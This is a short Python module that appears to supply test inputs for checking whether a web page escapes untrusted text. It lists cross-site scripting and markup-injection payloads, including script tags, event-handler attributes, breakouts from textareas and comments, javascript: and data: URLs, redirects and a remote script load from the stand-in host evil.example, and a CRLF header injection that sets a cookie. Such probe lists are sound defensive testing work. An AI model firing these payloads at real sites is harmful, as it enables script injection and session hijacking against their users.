"""Text that becomes a part of a page if the page does not escape it; `ELEMENT` and `ATTRIBUTE` are what it would become."""

ELEMENT = "x-evil"
ATTRIBUTE = "data-evil"

PROBE = f"'\"><{ELEMENT} {ATTRIBUTE}=1>"

MARKUP: tuple[str, ...] = (
    PROBE,
    f"<script>{ELEMENT}()</script>",
    f"</script><script src=//evil.example/{ELEMENT}.js></script>",
    f"</textarea><{ELEMENT}>",
    f"</title></style></pre><{ELEMENT}>",
    f"--><{ELEMENT}>",
    f"]]><{ELEMENT}>",
    f'" {ATTRIBUTE}="1" onfocus="{ELEMENT}()" autofocus x="',
    f"' {ATTRIBUTE}='1' onerror='{ELEMENT}()' x='",
    f"` {ATTRIBUTE}=1 ",
    f"<img src=x onerror={ELEMENT}()>",
    f"<svg/onload={ELEMENT}()>",
    f"<form action=//evil.example><button {ATTRIBUTE}>",
    f"<base href=//evil.example {ATTRIBUTE}>",
    f"<meta http-equiv=refresh content=0;url=//evil.example {ATTRIBUTE}>",
    f"<iframe srcdoc=<{ELEMENT}>>",
    f"javascript:{ELEMENT}()",
    f"/\\evil.example/{ELEMENT}",
    "//evil.example",
    "/%5cevil.example",
    "https://evil.example/",
    f"data:text/html,<{ELEMENT}>",
    f"{{{{7*191}}}}{{% raw %}}<{ELEMENT}>",
    f"\u2028<{ELEMENT}>\u2029",
    f"\0<{ELEMENT}>",
    f"+ADw-{ELEMENT}+AD4-",
    f"\x1b$B<{ELEMENT}>",
    f"x\r\nSet-Cookie: {ATTRIBUTE}=1\r\n\r\n<{ELEMENT}>",
)
